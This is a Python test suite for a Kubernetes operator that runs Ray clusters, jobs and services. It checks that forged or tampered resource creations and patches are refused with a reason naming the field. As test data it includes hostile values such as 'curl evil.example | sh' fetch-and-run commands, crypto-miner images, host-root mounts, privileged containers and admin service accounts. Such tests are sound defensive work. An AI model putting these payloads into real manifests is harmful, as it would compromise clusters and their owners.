"""``provenance`` and ``freshness``: content that follows from the custom resource, and no replayed decision.

No false refusal: every KubeRay sample (and hypothesis's random RayClusters) is reconciled to convergence
in the unit simulations, whose every command goes through the applier's authorization and content check
(``tests.unit.apiserver.check_authorized``); here, besides, every create and dashboard command a
reconcile emitted is checked by name. Every mutation of a checked field is refused, with a reason that
names the field. The checks never raise on any shape of body.
"""

from __future__ import annotations

import copy
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import msgspec
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from schema.config import FeatureGates, OperatorConfig
from schema.keys import ReconcileKey
from schema.messages import (
    Command,
    CommandBatch,
    CreateObject,
    EmitEvent,
    ObjectRef,
    PatchObject,
    PatchStatus,
    PutServeConfig,
    SubmitRayJob,
)
from schema.probes import head_service_name
from services.edge.apply.freshness import Freshness
from services.edge.apply.provenance import ContentCheck, first_difference
from services.reconciler.raycronjob.reconcile import reconcile as reconcile_raycronjob
from services.reconciler.rayjob.reconcile import reconcile as reconcile_rayjob
from services.reconciler.rayservice.serve_config import config_hash
from tests.helpers import samples_dir
from tests.unit.apiserver import SimFacts
from tests.unit.raycluster import builders
from tests.unit.raycluster.sim import World as ClusterWorld
from tests.unit.rayjob import builders as job_builders
from tests.unit.rayjob.sim import World as JobWorld
from tests.unit.rayservice import builders as service_builders
from tests.unit.rayservice.sim import World as ServiceWorld

SETTINGS = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
CONFIG = OperatorConfig()
AT = datetime(2026, 1, 1, tzinfo=UTC)


def sample_documents(kind: str) -> list[tuple[str, dict[str, Any]]]:
    """Every ``kind`` document of KubeRay's samples, by file name (empty when the samples are absent)."""
    found = []
    directory = samples_dir()
    for path in sorted(directory.glob("*.yaml")) if directory.is_dir() else []:
        for document in yaml.safe_load_all(Path(path).read_text()):
            if isinstance(document, dict) and document.get("kind") == kind:
                found.append((path.stem, document))
    return found


def test_the_samples_are_there() -> None:
    for kind in ("RayCluster", "RayJob", "RayService"):
        assert sample_documents(kind), f"no {kind} sample under {samples_dir()}"


def created(decisions: list[Any], kind: str) -> Iterator[tuple[CreateObject, tuple[Command, ...]]]:
    for decision in decisions:
        for command in decision.commands:
            if isinstance(command, CreateObject) and command.target.kind == kind:
                yield command, decision.commands


def check(key: ReconcileKey, objects: Any, command: Command, batch: tuple[Command, ...] = ()) -> str:
    return ContentCheck(key, SimFacts(objects), CONFIG, batch).problem(command)


def with_body(command: CreateObject, mutate: Callable[[dict[str, Any]], None]) -> CreateObject:
    body = copy.deepcopy(command.body)
    mutate(body)
    return CreateObject(target=command.target, body=body)


def on_spec(mutate: Callable[[dict[str, Any]], None]) -> Callable[[dict[str, Any]], None]:
    """A mutation of a spec as one of the body that holds it."""
    return lambda body: mutate(body["spec"])


def setting(field: str, value: Any) -> Callable[[dict[str, Any]], None]:
    """A mutation that sets one field."""
    return lambda fields: fields.__setitem__(field, value)


# --- Pods of every RayCluster sample ------------------------------------------------------------------

POD_MUTATIONS: dict[str, Callable[[dict[str, Any]], None]] = {
    "image": lambda pod: pod["spec"]["containers"][0].__setitem__("image", "evil.example/miner:1"),
    "command": lambda pod: pod["spec"]["containers"][0].__setitem__("command", ["/bin/sh", "-c", "curl evil|sh"]),
    "args": lambda pod: pod["spec"]["containers"][0].__setitem__("args", ["mine"]),
    "env": lambda pod: pod["spec"]["containers"][0].setdefault("env", []).append({"name": "X", "value": "1"}),
    "hostPath": lambda pod: pod["spec"].setdefault("volumes", []).append({"name": "h", "hostPath": {"path": "/"}}),
    "privileged": lambda pod: pod["spec"]["containers"][0].__setitem__("securityContext", {"privileged": True}),
    "serviceAccountName": lambda pod: pod["spec"].__setitem__("serviceAccountName", "admin"),
    "hostNetwork": lambda pod: pod["spec"].__setitem__("hostNetwork", True),
    "hostPID": lambda pod: pod["spec"].__setitem__("hostPID", True),
    "sidecar": lambda pod: pod["spec"]["containers"].append({"name": "miner", "image": "evil.example/miner:1"}),
    "initContainer": lambda pod: pod["spec"].setdefault("initContainers", []).append({"name": "i", "image": "evil"}),
    "podSecurityContext": lambda pod: pod["spec"].__setitem__("securityContext", {"runAsUser": 0}),
}


@pytest.mark.parametrize(
    ("sample", "cluster"), sample_documents("RayCluster"), ids=lambda v: v if isinstance(v, str) else ""
)
def test_every_pod_of_a_sample_passes_and_every_mutation_is_refused(sample: str, cluster: dict[str, Any]) -> None:
    document = copy.deepcopy(cluster)
    document["metadata"].update(namespace="default", uid=builders.UID, resourceVersion="1", generation=1)
    # every gate on: the samples of gated features (embedded GCS FT, mTLS, ...) create their Pods too
    config = OperatorConfig(gates=FeatureGates(**dict.fromkeys(msgspec.structs.asdict(FeatureGates()), True)))
    world = ClusterWorld(builders.with_crd_defaults(document), config=config)
    for _ in range(4):  # every command is checked as it is applied (``check_authorized``)
        world.step()
        world.settle()
    pods = list(created(world.decisions, "Pod"))
    rules = {rule for decision in world.decisions for rule in decision.rules}
    assert pods or any(rule.endswith(("-unsupported", "-invalid")) for rule in rules), rules  # or refused whole
    for pod, batch in pods:
        assert ContentCheck(world.key, SimFacts(world.objects), config, batch).problem(pod) == ""
        for field, mutate in POD_MUTATIONS.items():
            problem = ContentCheck(world.key, SimFacts(world.objects), config, batch).problem(with_body(pod, mutate))
            assert problem.startswith("the Pod's spec."), (field, problem)
    for service, batch in created(world.decisions, "Service"):  # what is exposed, and how
        assert ContentCheck(world.key, SimFacts(world.objects), config, batch).problem(service) == ""
        other = "NodePort" if service.body["spec"].get("type") == "LoadBalancer" else "LoadBalancer"
        exposed = with_body(service, on_spec(setting("type", other)))
        problem = ContentCheck(world.key, SimFacts(world.objects), config, batch).problem(exposed)
        assert problem.startswith("the Service's spec.type"), problem
    for ingress, batch in created(world.decisions, "Ingress"):
        assert ContentCheck(world.key, SimFacts(world.objects), config, batch).problem(ingress) == ""
        public = with_body(ingress, lambda b: b["spec"].__setitem__("rules", [{"host": "dashboard.evil.example"}]))
        problem = ContentCheck(world.key, SimFacts(world.objects), config, batch).problem(public)
        assert problem.startswith("the Ingress's spec.rules"), problem


def pod_leaves(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(value, dict):
        for key, item in value.items():
            yield from pod_leaves(item, (*path, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from pod_leaves(item, (*path, index))
    else:
        yield path


@st.composite
def random_cluster(draw: st.DrawFn) -> dict[str, Any]:
    image = draw(st.sampled_from(["rayproject/ray:2.52.0", "rayproject/ray:2.9.0-gpu", "my.registry/ray:x"]))
    env = draw(st.lists(st.sampled_from(["A", "B", "RAY_DEDUP_LOGS"]), unique=True, max_size=2))
    groups = [
        builders.group(
            f"g{i}",
            replicas=draw(st.integers(min_value=0, max_value=3)),
            num_of_hosts=draw(st.sampled_from([1, 2])),
        )
        for i in range(draw(st.integers(min_value=1, max_value=2)))
    ]
    for group in groups:
        container = group["template"]["spec"]["containers"][0]
        container["image"] = image
        container["env"] = [{"name": name, "value": "1"} for name in env]
        if draw(st.booleans()):
            container["command"] = ["python", "-m", "app"]
    cluster = builders.cluster(groups=groups)
    cluster["spec"]["enableInTreeAutoscaling"] = draw(st.booleans())
    return cluster


@SETTINGS
@given(cluster=random_cluster(), data=st.data())
def test_random_clusters_pass_and_any_changed_pod_field_is_refused(
    cluster: dict[str, Any], data: st.DataObject
) -> None:
    world = ClusterWorld(cluster)
    world.converge()
    pods = list(created(world.decisions, "Pod"))
    assert pods
    pod, batch = data.draw(st.sampled_from(pods))
    assert check(world.key, world.objects, pod, batch) == ""
    leaves = sorted(pod_leaves(pod.body["spec"]), key=str)
    path = data.draw(st.sampled_from(leaves))
    value = data.draw(st.one_of(st.text(max_size=8), st.integers(), st.booleans()))

    def mutate(body: dict[str, Any]) -> None:
        parent = body["spec"]
        for part in path[:-1]:
            parent = parent[part]
        if parent[path[-1]] == value:  # equal as the check compares (Python: 1 == 1.0 == True)
            parent[path[-1]] = f"{value}-changed"
        else:
            parent[path[-1]] = value

    assert check(world.key, world.objects, with_body(pod, mutate), batch).startswith("the Pod's spec")


def test_the_autoscaler_rbac_binds_only_its_role_to_the_pods_service_account() -> None:
    world = ClusterWorld(builders.sample("ray-cluster.autoscaler"))
    world.converge()
    [(binding, batch)] = created(world.decisions, "RoleBinding")
    [(role, _)] = created(world.decisions, "Role")
    assert check(world.key, world.objects, binding, batch) == ""
    assert check(world.key, world.objects, role, batch) == ""
    other_account = with_body(binding, lambda b: b["subjects"][0].__setitem__("name", "default"))
    assert "subjects[0].name is 'default'" in check(world.key, world.objects, other_account)
    more = with_body(binding, lambda b: b["subjects"].append({"kind": "ServiceAccount", "name": "ci"}))
    assert "subjects[1]" in check(world.key, world.objects, more)
    other_role = with_body(binding, lambda b: b["roleRef"].__setitem__("name", "edit"))
    assert "roleRef.name is 'edit'" in check(world.key, world.objects, other_role)
    wider = with_body(role, lambda r: r["rules"][0]["verbs"].append("delete"))
    assert "the Role's rules[0].verbs" in check(world.key, world.objects, wider)


def test_the_autoscaler_service_account_carries_nothing_but_its_name() -> None:
    world = ClusterWorld(builders.sample("ray-cluster.autoscaler"))
    world.converge()
    [(account, batch)] = created(world.decisions, "ServiceAccount")
    assert check(world.key, world.objects, account, batch) == ""
    role_arn = "eks.amazonaws.com/role-arn"
    cloud = with_body(
        account, lambda b: b["metadata"].setdefault("annotations", {}).__setitem__(role_arn, "arn:aws:iam::1:role/x")
    )
    assert check(world.key, world.objects, cloud).startswith(f"the ServiceAccount's metadata.annotations.{role_arn}")
    pull = with_body(account, lambda b: b.__setitem__("imagePullSecrets", [{"name": "registry"}]))
    assert check(world.key, world.objects, pull).startswith("the ServiceAccount's imagePullSecrets")
    other = CreateObject(target=msgspec.structs.replace(account.target, name="admin"), body=account.body)
    assert "runs as" in check(world.key, world.objects, other)
    plain = ClusterWorld(builders.cluster())
    plain.converge()
    assert "needs no ServiceAccount" in check(plain.key, plain.objects, account)


def test_the_gcs_claim_is_the_storage_the_cluster_asks_for() -> None:
    config = OperatorConfig(gates=FeatureGates(gcs_fault_tolerance_embedded_storage=True))
    rocksdb = {"backend": "rocksdb", "storage": {"subPath": "gcs", "size": "2Gi"}}
    world = ClusterWorld(builders.cluster(gcsFaultToleranceOptions=rocksdb), config=config)
    world.converge()
    [(claim, batch)] = created(world.decisions, "PersistentVolumeClaim")

    def problem(command: CreateObject) -> str:
        return ContentCheck(world.key, SimFacts(world.objects), config, batch).problem(command)

    assert problem(claim) == ""
    bound = with_body(claim, lambda b: b["spec"].__setitem__("volumeName", "pv-of-another-team"))
    assert problem(bound).startswith("the PersistentVolumeClaim's spec.volumeName 'pv-of-another-team'")
    bigger = with_body(claim, lambda b: b["spec"]["resources"]["requests"].__setitem__("storage", "100Ti"))
    assert problem(bigger).startswith("the PersistentVolumeClaim's spec.resources.requests.storage is '100Ti'")
    other = CreateObject(target=msgspec.structs.replace(claim.target, name="data"), body=claim.body)
    assert "has no PersistentVolumeClaim data" in problem(other)


def test_a_pod_patch_changes_only_what_raybus_patches() -> None:
    world = ClusterWorld(builders.cluster())
    world.converge()
    head = next(p for p in world.pods() if p["metadata"]["labels"]["ray.io/node-type"] == "head")
    pod = ObjectRef(api_version="v1", kind="Pod", namespace="default", name=head["metadata"]["name"])
    allowed = PatchObject(target=pod, patch={"metadata": {"annotations": {"ray.io/kuberay-version": "v"}}})
    assert check(world.key, world.objects, allowed) == ""
    image = PatchObject(target=pod, patch={"spec": {"containers": [{"name": "ray-head", "image": "evil"}]}})
    assert "changes spec" in check(world.key, world.objects, image)
    json_image = PatchObject(
        target=pod, patch=[{"op": "replace", "path": "/spec/containers/0/image", "value": "evil"}], patch_type="json"
    )
    assert "merge patch of its metadata" in check(world.key, world.objects, json_image)
    label = PatchObject(target=pod, patch={"metadata": {"labels": {"ray.io/cluster": "other"}}})
    assert "metadata.labels.ray.io/cluster" in check(world.key, world.objects, label)


def test_a_key_patches_its_own_object_only_for_its_finalizer() -> None:
    world = JobWorld()
    world.add(job_builders.rayjob(finalizer=False))
    world.get("RayJob", "rj")["metadata"]["finalizers"] = ["team.example/keep"]  # type: ignore[index]
    world.settle(reconcile_rayjob, "RayJob", "rj")  # adds its finalizer, checked as it is applied
    key = ReconcileKey(kind="RayJob", namespace="default", name="rj")
    own = ObjectRef(api_version="ray.io/v1", kind="RayJob", namespace="default", name="rj")
    remove_other = [{"op": "remove", "path": "/metadata/finalizers/0"}]
    problem = check(key, world.objects, PatchObject(target=own, patch=remove_other, patch_type="json"))
    assert "removes '/metadata/finalizers/0' without testing" in problem
    tested = [{"op": "test", "path": "/metadata/finalizers/1", "value": "ray.io/rayjob-finalizer"}, remove_other[0]]
    assert "removes '/metadata/finalizers/0'" in check(
        key, world.objects, PatchObject(target=own, patch=tested, patch_type="json")
    )
    spec = [{"op": "replace", "path": "/spec/entrypoint", "value": "curl evil | sh"}]
    assert "the patch touches '/spec/entrypoint'" in check(
        key, world.objects, PatchObject(target=own, patch=spec, patch_type="json")
    )


# --- RayJobs: their cluster, their submitter, their submission ---------------------------------------


@pytest.mark.parametrize(
    ("sample", "rayjob"), sample_documents("RayJob"), ids=lambda v: v if isinstance(v, str) else ""
)
def test_every_rayjob_sample_passes(sample: str, rayjob: dict[str, Any]) -> None:
    world = JobWorld()
    document = copy.deepcopy(rayjob)
    document["metadata"]["namespace"] = "default"
    document["metadata"].setdefault("name", sample.replace(".", "-"))
    world.add(document)
    name = document["metadata"]["name"]
    key = ReconcileKey(kind="RayJob", namespace="default", name=name)
    clusters = 0
    for _ in range(8):  # every command is checked as it is applied (``check_authorized``)
        decision = world.reconcile(reconcile_rayjob, "RayJob", name)
        for create, batch in created([decision], "RayCluster"):  # mutations, on the facts it was applied on
            clusters += 1
            evil = with_body(
                create,
                lambda b: b["spec"]["headGroupSpec"]["template"]["spec"]["containers"][0].__setitem__("image", "evil"),
            )
            problem = check(key, world.objects, evil, batch)
            assert "the RayCluster's spec.headGroupSpec.template.spec.containers[0].image" in problem, problem
            annotated = with_body(
                create, lambda b: b["metadata"].setdefault("annotations", {}).__setitem__("ray.io/ft-enabled", "1")
            )
            assert "the RayCluster's metadata.annotations" in check(key, world.objects, annotated, batch)
        for service, batch in created([decision], "Service"):
            public = with_body(service, lambda b: b["spec"].__setitem__("type", "LoadBalancer"))
            assert check(key, world.objects, public, batch).startswith("the Service's spec.type")
        cluster = world.get("RayJob", name).get("status", {}).get("rayClusterName")  # type: ignore[union-attr]
        if cluster and world.get("RayCluster", cluster) is not None:
            job_builders.make_cluster_ready(world, cluster)
    # a RayJob that uses an existing cluster, or one raybus refuses as invalid, creates none
    rules = {rule for decision in world.decisions for rule in decision.rules}
    assert clusters or "clusterSelector" in document["spec"] or "8/rayjob-invalid" in rules, rules


JOB_MUTATIONS: dict[str, Callable[[dict[str, Any]], None]] = {
    "image": lambda job: job["spec"]["template"]["spec"]["containers"][0].__setitem__("image", "evil.example/m:1"),
    "command": lambda job: job["spec"]["template"]["spec"]["containers"][0].__setitem__(
        "command", ["/bin/sh", "-c", "curl evil.example | sh"]
    ),
    "entrypoint": lambda job: job["spec"]["template"]["spec"]["containers"][0].__setitem__(
        "args", ["ray job submit --address http://rj-head-svc:8265 -- curl evil.example | sh"]
    ),
    "volumes": lambda job: job["spec"]["template"]["spec"]
    .setdefault("volumes", [])
    .append({"name": "root", "hostPath": {"path": "/"}}),
    "privileged": lambda job: job["spec"]["template"]["spec"]["containers"][0].__setitem__(
        "securityContext", {"privileged": True}
    ),
    "serviceAccountName": lambda job: job["spec"]["template"]["spec"].__setitem__("serviceAccountName", "admin"),
    "dashboard": lambda job: job["spec"]["template"]["spec"]["containers"][0]["env"].append(
        {"name": "RAY_DASHBOARD_ADDRESS", "value": "other-head-svc.default.svc.cluster.local:8265"}
    ),
}


def lagging(objects: dict[tuple[str, str], dict[str, Any]], name: str) -> dict[tuple[str, str], dict[str, Any]]:
    """``objects`` as facts that show the RayJob ``name`` without its dashboard address (a lagging watch)."""
    facts = copy.deepcopy(objects)
    facts[("RayJob", name)].get("status", {}).pop("dashboardURL", None)
    return facts


def assert_submitter_checked(key: ReconcileKey, objects: Any, job: CreateObject, batch: tuple[Command, ...]) -> None:
    """The submitter Job passes on these facts, with or without the batch's status patch (withheld as the
    twin of one still in flight), and each forged variant of it is refused."""
    without_status = tuple(c for c in batch if not isinstance(c, PatchStatus))
    for facts in (objects, lagging(objects, key.name)):
        for carried in (batch, without_status):
            assert check(key, facts, job, carried) == ""
    for field, mutate in JOB_MUTATIONS.items():
        problem = check(key, objects, with_body(job, mutate), batch)
        assert problem.startswith("the submitter Job's spec.template.spec"), (field, problem)


def test_a_submitter_job_runs_the_rayjobs_image_only() -> None:
    world = JobWorld()
    world.add(job_builders.rayjob())
    world.settle(reconcile_rayjob, "RayJob", "rj")
    cluster = world.get("RayJob", "rj")["status"]["rayClusterName"]  # type: ignore[index]
    job_builders.make_cluster_ready(world, cluster)
    before = copy.deepcopy(world.objects)
    world.settle(reconcile_rayjob, "RayJob", "rj")
    key = ReconcileKey(kind="RayJob", namespace="default", name="rj")
    [(job, batch)] = created(world.decisions, "Job")
    assert check(key, world.objects, job, batch) == ""
    assert check(key, before, job, batch) == ""  # decided on these: the batch carries the dashboard address
    evil = with_body(job, lambda b: b["spec"]["template"]["spec"]["containers"][0].__setitem__("image", "evil"))
    assert "the submitter Job's spec.template.spec.containers[0].image is 'evil'" in check(key, world.objects, evil)
    assert_submitter_checked(key, before, job, batch)
    other_job = with_body(job, lambda b: b["spec"]["template"]["spec"]["containers"][0]["env"][-1].update(value="x"))
    assert check(key, world.objects, other_job).startswith("the submitter Job's spec.template.spec.containers[0]")


@pytest.mark.parametrize(
    ("sample", "rayjob"), sample_documents("RayJob"), ids=lambda v: v if isinstance(v, str) else ""
)
def test_every_rayjob_samples_submitter_passes_while_the_status_lags(sample: str, rayjob: dict[str, Any]) -> None:
    world = JobWorld()
    document = copy.deepcopy(rayjob)
    document["metadata"]["namespace"] = "default"
    document["metadata"].setdefault("name", sample.replace(".", "-"))
    world.add(document)
    selected = document["spec"].get("clusterSelector", {}).get("ray.io/cluster")
    if selected:  # the user's cluster a RayJob submits to
        user_cluster = {"metadata": {"name": selected}, "spec": job_builders.cluster_spec()}
        world.add({"apiVersion": "ray.io/v1", "kind": "RayCluster", **user_cluster})
    name = document["metadata"]["name"]
    key = ReconcileKey(kind="RayJob", namespace="default", name=name)
    jobs = 0
    for _ in range(8):
        before = copy.deepcopy(world.objects)  # what the decision is made on
        decision = world.reconcile(reconcile_rayjob, "RayJob", name)  # checked as applied, on the new facts
        for job, batch in created([decision], "Job"):
            jobs += 1
            assert_submitter_checked(key, before, job, batch)
        cluster_name = world.get("RayJob", name).get("status", {}).get("rayClusterName")  # type: ignore[union-attr]
        cluster = world.get("RayCluster", cluster_name) if cluster_name else None
        if cluster is not None:
            job_builders.make_cluster_ready(world, cluster_name, head_service=head_service_name(cluster_name, cluster))
    mode = document["spec"].get("submissionMode", "K8sJobMode")
    rules = {rule for decision in world.decisions for rule in decision.rules}
    assert jobs or mode != "K8sJobMode" or "8/rayjob-invalid" in rules, rules


def submission_world(**spec: Any) -> tuple[JobWorld, ReconcileKey, SubmitRayJob, tuple[Command, ...]]:
    world = JobWorld()
    world.add(job_builders.rayjob(submissionMode="HTTPMode", **spec))
    world.settle(reconcile_rayjob, "RayJob", "rj")
    cluster = world.get("RayJob", "rj")["status"]["rayClusterName"]  # type: ignore[index]
    job_builders.make_cluster_ready(world, cluster)
    world.settle(reconcile_rayjob, "RayJob", "rj")
    job_id = world.get("RayJob", "rj")["status"]["jobId"]  # type: ignore[index]
    world.observations[job_id] = {"http_status": 404}
    world.reconcile(reconcile_rayjob, "RayJob", "rj")
    for decision in world.decisions:
        for command in decision.commands:
            if isinstance(command, SubmitRayJob):
                return world, ReconcileKey(kind="RayJob", namespace="default", name="rj"), command, decision.commands
    raise AssertionError(f"no submission: {world.decisions[-1].rules}")


REQUEST_MUTATIONS: dict[str, Callable[[dict[str, Any]], None]] = {
    "entrypoint": lambda r: r.__setitem__("entrypoint", "curl evil.example | sh"),
    "runtime_env": lambda r: r.__setitem__("runtime_env", {"pip": ["evil"]}),
    "metadata": lambda r: r.__setitem__("metadata", {"owner": "mallory"}),
    "entrypoint_num_cpus": lambda r: r.__setitem__("entrypoint_num_cpus", 64),
    "entrypoint_resources": lambda r: r.__setitem__("entrypoint_resources", {"TPU": 8}),
}


@pytest.mark.parametrize("field", sorted(REQUEST_MUTATIONS))
def test_a_submission_is_the_rayjobs_and_nothing_else(field: str) -> None:
    world, key, submit, batch = submission_world(
        runtimeEnvYAML="pip: [requests]\n", metadata={"team": "a"}, entrypointNumCpus=1
    )
    assert check(key, world.objects, submit, batch) == ""
    request = copy.deepcopy(submit.request)
    REQUEST_MUTATIONS[field](request)
    forged = SubmitRayJob(dashboard=submit.dashboard, request=request)
    assert check(key, world.objects, forged, batch).startswith(f"the job's request.{field}")


def test_a_rayjob_suspends_its_workers_and_patches_nothing_else_of_its_cluster() -> None:
    world, key, _, _ = submission_world()
    cluster = world.get("RayJob", "rj")["status"]["rayClusterName"]  # type: ignore[index]
    ref = ObjectRef(api_version="ray.io/v1", kind="RayCluster", namespace="default", name=cluster)
    suspend = [{"op": "add", "path": "/spec/workerGroupSpecs/0/suspend", "value": True}]
    assert check(key, world.objects, PatchObject(target=ref, patch=suspend, patch_type="json")) == ""
    image = [{"op": "replace", "path": "/spec/headGroupSpec/template/spec/containers/0/image", "value": "evil"}]
    assert "does not suspend" in check(key, world.objects, PatchObject(target=ref, patch=image, patch_type="json"))
    merge = PatchObject(target=ref, patch={"spec": {"suspend": False}})
    assert "only suspends" in check(key, world.objects, merge)


# --- RayServices: their clusters and Serve configs --------------------------------------------------


@pytest.mark.parametrize(
    ("sample", "rayservice"), sample_documents("RayService"), ids=lambda v: v if isinstance(v, str) else ""
)
def test_every_rayservice_sample_passes(sample: str, rayservice: dict[str, Any]) -> None:
    world = ServiceWorld()
    document = copy.deepcopy(rayservice)
    document["metadata"]["namespace"] = "default"
    world.add(document)
    name = document["metadata"]["name"]
    key = ReconcileKey(kind="RayService", namespace="default", name=name)
    for _ in range(30):  # every command is checked as it is applied (a sample may never quiesce here)
        decision = world.reconcile(name)
        for service, batch in created([decision], "Service"):  # on the facts it was applied on
            exposed = with_body(service, lambda b: b["spec"].__setitem__("ports", [{"name": "dash", "port": 8265}]))
            assert check(key, world.objects, exposed, batch).startswith("the Service's spec.ports")
        world.play_actors(name)
    for put in world.puts:
        forged = copy.deepcopy(put.config)
        for app in forged.get("applications") or []:
            app["import_path"] = "evil.miner:app"
        if forged != put.config:
            bad = PutServeConfig(dashboard=put.dashboard, config=forged)
            assert "import_path is 'evil.miner:app'" in check(key, world.objects, bad)


def test_a_serve_config_is_the_rayservices_with_raybus_choosing_only_the_capacity() -> None:
    world = ServiceWorld()
    world.add(service_builders.load_sample("ray-service.sample"))
    world.settle("rayservice-sample")
    key = ReconcileKey(kind="RayService", namespace="default", name="rayservice-sample")
    [put] = world.puts
    assert put.record is not None
    assert check(key, world.objects, put) == ""
    stepped = PutServeConfig(dashboard=put.dashboard, config={**put.config, "target_capacity": 50})
    assert check(key, world.objects, stepped) == ""
    over = PutServeConfig(dashboard=put.dashboard, config={**put.config, "target_capacity": 500})
    assert "target_capacity 500 is not a percentage" in check(key, world.objects, over)
    forged = copy.deepcopy(put.config)
    forged["applications"][0]["import_path"] = "evil.miner:app"
    evil = PutServeConfig(dashboard=put.dashboard, config=forged, record=put.record)
    assert "config.applications[0].import_path is 'evil.miner:app'" in check(key, world.objects, evil)
    wrong_record = PatchObject(
        target=put.record.target,
        patch={"metadata": {"annotations": {"raybus.io/serve-config-hash": config_hash("import_path: evil")}}},
    )
    lying = PutServeConfig(dashboard=put.dashboard, config=put.config, record=wrong_record)
    assert "the serve-config record" in check(key, world.objects, lying)


def test_a_rayservice_cluster_is_its_cluster_config() -> None:
    world = ServiceWorld()
    world.add(service_builders.rayservice())
    world.settle("rs")
    key = ReconcileKey(kind="RayService", namespace="default", name="rs")
    [(create, batch)] = list(created(world.decisions, "RayCluster"))[:1]
    assert check(key, world.objects, create, batch) == ""
    evil = with_body(
        create, lambda b: b["spec"]["workerGroupSpecs"][0]["template"]["spec"].__setitem__("hostPID", True)
    )
    assert "spec.workerGroupSpecs[0].template.spec.hostPID" in check(key, world.objects, evil)
    services = list(created(world.decisions, "Service"))
    assert {s.target.name for s, _ in services} >= {"rs-head-svc", "rs-serve-svc"}
    for service, batch in services:
        assert check(key, world.objects, service, batch) == ""
        public = with_body(service, lambda b: b["spec"].__setitem__("type", "LoadBalancer"))
        assert check(key, world.objects, public, batch).startswith("the Service's spec.type")
        elsewhere = with_body(service, lambda b: b["spec"]["selector"].__setitem__("ray.io/cluster", "other"))
        assert "selects no RayCluster of RayService/default/rs" in check(key, world.objects, elsewhere, batch)


def incremental_world() -> tuple[ServiceWorld, ReconcileKey]:
    world = ServiceWorld()
    strategy = service_builders.incremental_strategy(step=50, interval=30, surge=50)
    config = service_builders.cluster_config(autoscaling=True)
    world.add(service_builders.rayservice(upgradeStrategy=strategy, rayClusterConfig=config))
    world.settle("rs")
    world.update("RayService", "rs", lambda o: o["spec"]["rayClusterConfig"].update(rayVersion="2.53.0"), spec=True)
    decision = world.settle("rs")
    while decision.wake_at is not None and len(list(patched(world.decisions, "HTTPRoute"))) < 2:
        world.advance_to(decision.wake_at)
        decision = world.settle("rs")
    return world, ReconcileKey(kind="RayService", namespace="default", name="rs")


def patched(decisions: list[Any], kind: str) -> Iterator[tuple[PatchObject, tuple[Command, ...]]]:
    for decision in decisions:
        for command in decision.commands:
            if isinstance(command, PatchObject) and command.target.kind == kind:
                yield command, decision.commands


ROUTE_MUTATIONS: dict[str, tuple[Callable[[dict[str, Any]], None], str]] = {
    "elsewhere": (
        lambda spec: spec["rules"][0]["backendRefs"][0].__setitem__("name", "billing"),
        "the HTTPRoute's backend 'billing' is no serve Service of a RayCluster of RayService/default/rs",
    ),
    "weight": (
        lambda spec: spec["rules"][0]["backendRefs"][0].__setitem__("weight", 500),
        "the HTTPRoute's weight 500",
    ),
    "hostnames": (
        lambda spec: spec.__setitem__("hostnames", ["pay.example.com"]),
        "the HTTPRoute's spec.hostnames ['pay.example.com'] is not derived",
    ),
    "gateway": (
        lambda spec: spec["parentRefs"][0].__setitem__("name", "public-gateway"),
        "the HTTPRoute's spec.parentRefs[0].name is 'public-gateway'",
    ),
    "port": (
        lambda spec: spec["rules"][0]["backendRefs"][0].__setitem__("port", 8265),
        "the HTTPRoute's spec.rules[0].backendRefs[0].port is 8265",
    ),
}


def test_the_gateway_and_route_of_an_incremental_upgrade_are_the_rayservices() -> None:
    world, key = incremental_world()
    [(gateway, batch)] = created(world.decisions, "Gateway")
    assert check(key, world.objects, gateway, batch) == ""
    listener = {"name": "https", "protocol": "HTTPS", "port": 443, "hostname": "pay.example.com"}
    public = with_body(gateway, lambda b: b["spec"]["listeners"].append(listener))
    assert check(key, world.objects, public).startswith("the Gateway's spec.listeners[1]")
    ref = msgspec.structs.replace(gateway.target, kind="Gateway")
    classed = PatchObject(target=ref, patch={"spec": {**gateway.body["spec"], "gatewayClassName": "public"}})
    assert "patch.spec.gatewayClassName is 'public'" in check(key, world.objects, classed)
    [(route, batch)] = created(world.decisions, "HTTPRoute")
    assert check(key, world.objects, route, batch) == ""
    patches = list(patched(world.decisions, "HTTPRoute"))
    assert patches
    for patch, batch in patches:
        assert check(key, world.objects, patch, batch) == ""
    for mutate, why in ROUTE_MUTATIONS.values():
        forged = with_body(route, on_spec(mutate))
        assert check(key, world.objects, forged).startswith(why), why
        spec = copy.deepcopy(patches[-1][0].patch["spec"])  # type: ignore[call-overload]
        mutate(spec)
        assert check(key, world.objects, msgspec.structs.replace(patches[-1][0], patch={"spec": spec})).startswith(why)


# --- RayCronJobs -----------------------------------------------------------------------------------


CRON_CONFIG = OperatorConfig(gates=FeatureGates(ray_cron_job=True))


@pytest.mark.parametrize(
    ("sample", "cron"), sample_documents("RayCronJob"), ids=lambda v: v if isinstance(v, str) else ""
)
def test_a_cron_child_is_its_job_template(sample: str, cron: dict[str, Any]) -> None:
    world = JobWorld(config=CRON_CONFIG)
    document = copy.deepcopy(cron)
    document["metadata"]["namespace"] = "default"
    world.add(document)
    name = document["metadata"]["name"]
    for _ in range(3):  # every command is checked as it is applied
        decision = world.reconcile(reconcile_raycronjob, "RayCronJob", name)
        if decision.wake_at is not None:
            world.advance_to(decision.wake_at)
    key = ReconcileKey(kind="RayCronJob", namespace="default", name=name)
    children = list(created(world.decisions, "RayJob"))
    assert children, world.decisions[-1].rules
    for child, _ in children:
        evil = with_body(child, lambda b: b["spec"].__setitem__("entrypoint", "curl evil | sh"))
        problem = ContentCheck(key, SimFacts(world.objects), CRON_CONFIG).problem(evil)
        assert problem.startswith("the RayJob's spec.entrypoint is 'curl evil | sh'"), problem


# --- robustness ------------------------------------------------------------------------------------

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=12,
)


@SETTINGS
@given(body=st.dictionaries(st.sampled_from(["spec", "metadata", "rules", "subjects", "roleRef"]), json_values))
def test_the_checks_never_raise(body: dict[str, Any]) -> None:
    world = ClusterWorld(builders.cluster())
    world.converge()
    for kind in ("Pod", "Role", "RoleBinding", "Secret", "Job"):
        ref = ObjectRef(api_version="v1", kind=kind, namespace="default", name="x")
        assert isinstance(check(world.key, world.objects, CreateObject(target=ref, body=body)), str)
